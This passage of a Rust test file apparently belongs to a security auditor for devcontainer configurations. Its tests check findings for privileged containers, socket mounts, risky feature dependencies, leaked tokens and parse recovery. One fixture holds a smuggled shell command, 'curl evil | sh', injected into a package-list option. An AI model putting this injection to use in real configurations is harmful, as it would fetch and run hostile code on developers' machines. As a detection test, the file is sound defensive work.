            .unwrap_or_else(|| panic!("{rule} missing: {findings:#?}"));
        assert_eq!(f.pointer, "/features/.~1x");
        assert!(f.message.contains("local feature `./x`"), "{}", f.message);
    }
    // The feature file on its own.
    let own = audit_feature(&feature);
    assert!(own
        .iter()
        .any(|f| f.rule == RuleId::Privileged && f.pointer == "/privileged"));
    assert!(own
        .iter()
        .any(|f| f.rule == RuleId::LifecycleCommand && f.pointer == "/entrypoint"));
}

/// Issue 15: a feature's metadata gives it what it depends on (`dependsOn` docker-in-docker is
/// privileged), and a third-party feature whose fetched metadata sets `privileged` says so.
#[test]
fn feature_metadata_depends_on_and_third_party_privileges() {
    let cases: &[(&str, &str, &str, RuleId, Severity, &str)] = &[
        (
            "./dind-wrapper",
            r#"{"id": "dind-wrapper", "dependsOn": {"ghcr.io/devcontainers/features/docker-in-docker:2": {}}}"#,
            r#"{"image": "i", "features": {"./dind-wrapper": {}}}"#,
            RuleId::FeatureImpliedPrivileges,
            Severity::High,
            "local feature `./dind-wrapper` depends on `ghcr.io/devcontainers/features/docker-in-docker:2`",
        ),
        (
            "./socket",
            r#"{"id": "socket", "dependsOn": {"ghcr.io/devcontainers/features/docker-outside-of-docker:1": {"moby": true}}}"#,
            r#"{"image": "i", "features": {"./socket": {}}}"#,
            RuleId::FeatureImpliedPrivileges,
            Severity::Critical,
            "depends on `ghcr.io/devcontainers/features/docker-outside-of-docker:1`",
        ),
        (
            "ghcr.io/acme/features/tool:1.2.3",
            r#"{"id": "tool", "privileged": true}"#,
            r#"{"image": "i", "features": {"ghcr.io/acme/features/tool:1.2.3": {}}}"#,
            RuleId::Privileged,
            Severity::Critical,
            "feature `ghcr.io/acme/features/tool:1.2.3` adds: `privileged: true`",
        ),
    ];
    for (key, metadata, config, rule, severity, message) in cases {
        let ctx = AuditContext {
            local_features: vec![LocalFeature {
                key: (*key).into(),
                metadata: parse_feature(metadata).tree.unwrap(),
            }],
            ..AuditContext::default()
        };
        let findings = audit(&parse_devcontainer(config), &ctx);
        assert!(
            findings.iter().any(|f| f.rule == *rule
                && f.severity == *severity
                && f.pointer == format!("/features/{}", key.replace('/', "~1"))
                && f.message.contains(message)),
            "{key}: {findings:#?}"
        );
        // without the metadata, neither is known
        let plain = audit(&parse_devcontainer(config), &AuditContext::default());
        assert!(
            !plain
                .iter()
                .any(|f| f.rule == *rule && f.severity == *severity),
            "{key}"
        );
    }
}

#[test]
fn a_local_feature_never_quotes_a_secret_key_in_a_message() {
    // Found by the audit property test: a token used as a key inside a local feature's
    // devcontainer-feature.json used to reach the message through the quoted pointer.
    let token = "ghp_aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5";
    let feature = parse_feature(&format!(r#"{{"containerEnv": {{"A": {{"{token}": 1}}}}}}"#));
    let ctx = AuditContext {
        local_features: vec![LocalFeature {
            key: "./x".into(),
            metadata: feature.tree.clone().unwrap(),
        }],
        ..AuditContext::default()
    };
    let parsed = parse_devcontainer(r#"{"image": "i", "features": {"./x": {}}}"#);
    let findings = audit(&parsed, &ctx);
    assert!(
        findings
            .iter()
            .any(|f| f.rule == RuleId::EmbeddedCredential),
        "{findings:#?}"
    );
    for f in &findings {
        assert!(!f.message.contains(&token[4..]), "{f:?}");
    }
}

#[test]
fn syntax_errors_give_no_findings() {
    assert!(run("{'a': 1}").is_empty());
    assert!(run("").is_empty());
}

/// Issue 15: after a syntax error the parts that parsed are still audited (README, exit 2).
#[test]
fn syntax_errors_still_audit_what_parsed() {
    let cases: &[(&str, RuleId, &str, (usize, usize))] = &[
        // a missing comma
        (
            "{\n  \"image\": \"x\",\n  \"privileged\": true\n  \"runArgs\": [\"--pid=host\"]\n}",
            RuleId::HostNamespace,
            "/runArgs/0",
            (4, 15),
        ),
        // garbage after the root
        (
            "{\"image\": \"x\", \"privileged\": true}garbage",
            RuleId::Privileged,
            "/privileged",
            (1, 30),
        ),
        // a truncated file: what came before the cut
        (
            "{\"image\": \"x\", \"capAdd\": [\"SYS_ADMIN\"], \"runArgs\": [\"--privileged\", \"-v",
            RuleId::Capability,
            "/capAdd/0",
            (1, 27),
        ),
        // a stray token the strict dialect rejects, skipped
        (
            "{\"image\": \"x\", @ \"privileged\": true}",
            RuleId::Privileged,
            "/privileged",
            (1, 32),
        ),
    ];
    for (doc, rule, pointer, at) in cases {
        let parsed = parse_devcontainer(doc);
        assert!(parsed.syntax_error.is_some(), "{doc}");
        assert!(parsed.model.is_none() && parsed.tree.is_none(), "{doc}");
        let findings = audit(&parsed, &AuditContext::default());
        assert!(
            findings
                .iter()
                .any(|f| f.rule == *rule && f.pointer == *pointer && (f.line, f.column) == *at),
            "{doc}: {findings:#?}"
        );
    }
}

/// Issue 15: shapes the devcontainers CLI accepts are never errors. Each document is parsed
/// without any error (diagnostic), and the audit still looks at what the value becomes: the
/// rule, severity and pointer must be reported (`None`: nothing above info).
type Expected = Option<(RuleId, Severity, &'static str)>;

const ACCEPTED_BY_THE_CLI: &[(&str, Expected)] = &[
    // jellyfin/jellyfin .devcontainer/devcontainer.json: an option written as an array
    (
        r#"{"image": "x", "features": {"ghcr.io/devcontainers-contrib/features/apt-packages:1": {"packages": ["libfontconfig1"]}}}"#,
        None,
    ),
    // the CLI stringifies option values (`${value}`), so an array's string form is audited
    (
        r#"{"image": "x", "features": {"ghcr.io/devcontainers-contrib/features/apt-packages:1": {"packages": ["a", "b\"; curl evil | sh; \""]}}}"#,
        Some((
            RuleId::FeatureOptionInjection,
            Severity::Critical,
            "/features/ghcr.io~1devcontainers-contrib~1features~1apt-packages:1/packages",
        )),
    ),
    (
        r#"{"image": "x", "features": {"ghcr.io/devcontainers/features/node:1": {"version": 20, "x": null, "y": {"a": 1}}}}"#,
        None,
    ),
    // the CLI types forwardPorts as number | string (shape from issue 15; source repository not recorded)
    (r#"{"image": "x", "forwardPorts": ["3000", 8080]}"#, None),
    // any non-empty string is true to the CLI: "false" runs privileged
    (
        r#"{"image": "x", "privileged": "false"}"#,
        Some((RuleId::Privileged, Severity::Critical, "/privileged")),
    ),
    (r#"{"image": "x", "privileged": ""}"#, None),
];

#[test]
fn accepted_by_the_cli_is_never_an_error() {
    for (doc, want) in ACCEPTED_BY_THE_CLI {
        let parsed = parse_devcontainer(doc);
        assert!(parsed.is_ok(), "{doc}: {:#?}", parsed.diagnostics());
        let findings = audit(&parsed, &AuditContext::default());
        match want {
            Some((rule, severity, pointer)) => assert!(
                findings
                    .iter()
                    .any(|f| f.rule == *rule && f.severity == *severity && f.pointer == *pointer),
                "expected {rule} {severity} at {pointer} for {doc}\ngot: {findings:#?}"
            ),
            None => {
                let above: Vec<_> = findings
                    .iter()
                    .filter(|f| f.severity > Severity::Info)
                    .filter(|f| !matches!(f.rule, RuleId::FeatureSource | RuleId::FeatureUnpinned))
                    .collect();
                assert!(above.is_empty(), "{doc}: {above:#?}");
            }
        }
    }
}

/// Recovery after a syntax error must never panic, wherever the text is cut (multi-byte
/// characters, escapes, comments and unterminated strings included).
#[test]
fn every_truncation_is_audited_without_panic() {
    let doc = "\u{feff}{\n  // é \"x\"\n  \"image\": \"ü\\\"\\u00e9\", /* } */\n  \"privileged\": true,\n  'runArgs': [\"--pid=host\", 0x1F, \"€\"],\n  \"mounts\": [{\"source\": \"/var/run/docker.sock\"}]\n}garbage";
    let mut recovered = 0;
    for end in (0..=doc.len()).filter(|i| doc.is_char_boundary(*i)) {
        let parsed = parse_devcontainer(&doc[..end]);
        recovered += usize::from(parsed.recovered.is_some());
        let _ = audit(&parsed, &AuditContext::default());
    }
    assert!(recovered > 0);
    let whole = run(doc);
    for rule in [
        RuleId::Privileged,
        RuleId::HostNamespace,
        RuleId::ContainerSocketMount,
    ] {
        assert!(whole.iter().any(|f| f.rule == rule), "{rule}: {whole:#?}");
    }
}
